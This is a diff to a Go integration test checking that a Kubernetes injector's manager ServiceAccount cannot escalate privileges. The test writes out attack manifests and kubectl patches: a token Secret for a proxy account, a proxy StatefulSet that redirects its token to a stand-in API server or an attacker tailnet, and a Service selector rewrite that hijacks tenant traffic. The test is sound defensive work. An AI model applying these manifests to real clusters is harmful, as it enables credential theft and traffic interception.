@@ -208,11 +208,20 @@ spec:
 
 // Whoever takes over the manager's ServiceAccount, on the real node, with
 // real writes: it cannot bind cluster-admin or the impersonation role to
-// itself, rewrite its webhook, make a token Secret or run a shell as an
-// API proxy's account; afterwards nothing of it exists.
+// itself, rewrite its webhook, make a token Secret, run a shell as an API
+// proxy's account, run the proxy image so as to send that account's token
+// elsewhere or join it to another tailnet, or repoint a tenant's Service;
+// afterwards nothing of it exists.
 func TestManagerCannotEscalate(t *testing.T) {
+	ns := namespace(t, "manager-attack")
 	ctx := testCtx(t, stepDeadline)
 	manager := "system:serviceaccount:" + system + ":tsinject-manager"
+	if out, err := kubectl(ctx, "-n", ns, "create", "service", "clusterip", "web", "--tcp=80:8080"); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	proxySet := func(env string) string {
+		return `{"apiVersion":"apps/v1","kind":"StatefulSet","metadata":{"name":"ts-apiserver-proxy-attack","namespace":"` + system + `"},"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"serviceAccountName":"ts-apiserver-proxy-attack","containers":[{"name":"apiserver","image":"` + proxyImage + `","args":["apiserver"],"env":[` + env + `]}]}}}}`
+	}
 	before, err := env.node.Client.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, "tsinject", metav1.GetOptions{})
 	if err != nil {
 		t.Fatal(err)
@@ -226,6 +235,9 @@ func TestManagerCannotEscalate(t *testing.T) {
 		{"widen its webhook to every namespace", "", "but each webhook's caBundle", []string{"patch", "mutatingwebhookconfiguration", "tsinject", "--type=json", "-p", `[{"op":"replace","path":"/webhooks/0/namespaceSelector","value":{}}]`}},
 		{"create a token Secret for an API proxy's account", `{"apiVersion":"v1","kind":"Secret","type":"kubernetes.io/service-account-token","metadata":{"name":"attack-token","namespace":"` + system + `","annotations":{"kubernetes.io/service-account.name":"ts-apiserver-proxy-k8s"}}}`, "token Secrets", []string{"create", "-f", "-"}},
 		{"run a shell as an API proxy's account", `{"apiVersion":"apps/v1","kind":"StatefulSet","metadata":{"name":"ts-apiserver-proxy-attack","namespace":"` + system + `"},"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"serviceAccountName":"ts-apiserver-proxy-attack","containers":[{"name":"sh","image":"` + appImage + `"}]}}}}`, "only the images", []string{"create", "-f", "-"}},
+		{"send an API proxy's token to its own API server", proxySet(`{"name":"KUBERNETES_SERVICE_HOST","value":"198.18.0.66"}`), "only tsinject's own variables", []string{"create", "-f", "-"}},
+		{"join an API proxy to its own tailnet", proxySet(`{"name":"TSINJECT_CLIENT_ID","value":"attacker-client"}`), "only with the credential", []string{"create", "-f", "-"}},
+		{"repoint a tenant's Service", "", "only an egress Service's externalName", []string{"-n", ns, "patch", "service", "web", "-p", `{"spec":{"selector":{"app":"attacker"}}}`}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			out, err := as(ctx, manager, tc.stdin, tc.args...)
@@ -242,6 +254,14 @@ func TestManagerCannotEscalate(t *testing.T) {
 	if _, err := env.node.Client.CoreV1().Secrets(system).Get(ctx, "attack-token", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
 		t.Errorf("token Secret: %v, want none", err)
 	}
+	if _, err := env.node.Client.AppsV1().StatefulSets(system).Get(ctx, "ts-apiserver-proxy-attack", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
+		t.Errorf("StatefulSet ts-apiserver-proxy-attack: %v, want none", err)
+	}
+	if svc, err := env.node.Client.CoreV1().Services(ns).Get(ctx, "web", metav1.GetOptions{}); err != nil {
+		t.Error(err)
+	} else if svc.Spec.Selector["app"] == "attacker" {
+		t.Errorf("the tenant's Service selects %v", svc.Spec.Selector)
+	}
 	after, err := env.node.Client.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, "tsinject", metav1.GetOptions{})
 	if err != nil {
 		t.Fatal(err)
@@ -254,7 +274,7 @@ func TestManagerCannotEscalate(t *testing.T) {
 	if out, _ := kubectl(ctx, "auth", "can-i", "--as="+manager, "bind", "clusterroles/cluster-admin"); !strings.HasSuffix(strings.TrimSpace(out), "\nno") && strings.TrimSpace(out) != "no" {
 		t.Errorf("kubectl auth can-i --as %s bind clusterroles/cluster-admin: %s", manager, out)
 	}
-	figure(t, "as the manager's account: 5 escalations refused by RBAC or tsinject's admission policies; nothing bound, no token Secret, the webhook as it was")
+	figure(t, "as the manager's account: 8 escalations refused by RBAC or tsinject's admission policies; nothing bound, no token Secret or proxy set, the webhook and the tenant's Service as they were")
 }
 
 func firstLine(s string) string {
